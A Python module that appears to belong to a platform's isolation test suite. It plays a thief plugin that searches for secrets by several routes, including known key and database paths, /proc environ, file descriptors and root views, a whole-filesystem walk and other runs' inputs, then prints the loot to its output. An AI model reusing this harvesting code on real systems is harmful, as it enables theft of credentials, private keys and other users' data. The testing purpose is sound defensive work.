"""Looks for the platform's secrets by one route per run and returns whatever it finds.

What a thief looks for: the suite's canaries (in the platform database, the platform's
environment, a file beside the key, other runs' inputs) and any PEM private key. The loot
goes into the run's own output, its log and its error message: the test looks for the
canaries in everything the platform recorded about the run.
"""

from __future__ import annotations

import contextlib
import glob
import json
import os
import time
from pathlib import Path
from typing import Any

from tweeling.sdk import Context, Inputs, Outputs

from . import tricks

MAX_FILE = 8 << 20


def _read(journal: tricks.Journal, path: str) -> None:
    with contextlib.suppress(OSError):
        if os.path.isfile(path) and os.path.getsize(path) <= MAX_FILE:
            with open(path, "rb") as handle:
                journal.grab(handle.read())
    with contextlib.suppress(OSError):
        journal.grab(tricks.libc_read(path))  # in case reading through Python is refused


def _walk(journal: tricks.Journal, top: str, deadline: float, depth: int) -> None:
    """Read every file under ``top`` (to ``depth`` levels), until the deadline."""
    base = top.rstrip("/").count("/")
    for folder, folders, files in os.walk(top, followlinks=False):
        if time.monotonic() > deadline:
            return
        if folder.rstrip("/").count("/") - base >= depth:
            folders[:] = []
        folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", ".venv", ".git")]
        for name in files:
            _read(journal, os.path.join(folder, name))


def _pids() -> list[str]:
    return [p for p in os.listdir("/proc") if p.isdigit()]


def _process(journal: tricks.Journal, pid: str, plan: dict[str, Any], deadline: float) -> None:
    for part in ("environ", "cmdline"):
        _read(journal, f"/proc/{pid}/{part}")
    try:
        descriptors = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        descriptors = []
    for fd in descriptors:
        _read(journal, f"/proc/{pid}/fd/{fd}")  # the platform's open database, say
    for known in (plan["key"], plan["db"], plan["secret_file"]):
        _read(journal, f"/proc/{pid}/root{known}")  # its view of the file system
    _walk(journal, f"/proc/{pid}/cwd", deadline, 2)


def run(inputs: Inputs, parameters: dict[str, Any], context: Context) -> Outputs:
    plan = json.loads(parameters["plan"])
    route = parameters["route"]
    journal = tricks.Journal()
    deadline = time.monotonic() + 3.0
    if route == "known-paths":
        for path in (plan["key"], plan["db"], plan["secret_file"]):
            _read(journal, path)
        _walk(journal, plan["home"], deadline, 3)
    elif route == "relative":
        here = Path(inputs.folder).resolve()
        for ancestor in list(here.parents)[:4]:
            _walk(journal, str(ancestor), deadline, 3)
    elif route == "proc-parent":
        for pid in [str(os.getppid()), "1", *map(str, plan["pids"])]:
            _process(journal, pid, plan, deadline)
    elif route == "proc-scan":
        for pid in _pids():
            if time.monotonic() > deadline:
                break
            _process(journal, pid, plan, deadline)
    elif route == "walk-root":
        _walk(journal, "/", deadline, 12)
    elif route == "environment":
        journal.grab("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
        for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
            _read(journal, path)
    elif route == "other-runs":
        patterns = [
            f"{plan['home']}/runs/*/inputs/*",
            "/tmp/tweeling-run-*/run/inputs/*",
            str(Path(inputs.folder).resolve().parent.parent / "*" / "inputs" / "*"),
        ]
        for pattern in patterns:
            for path in glob.glob(pattern):
                _read(journal, path)
    else:
        raise ValueError(f"no route {route!r}")
    text = journal.text()
    print(text, flush=True)
    out = Outputs()
    out.indicator("loot", text)
    return out
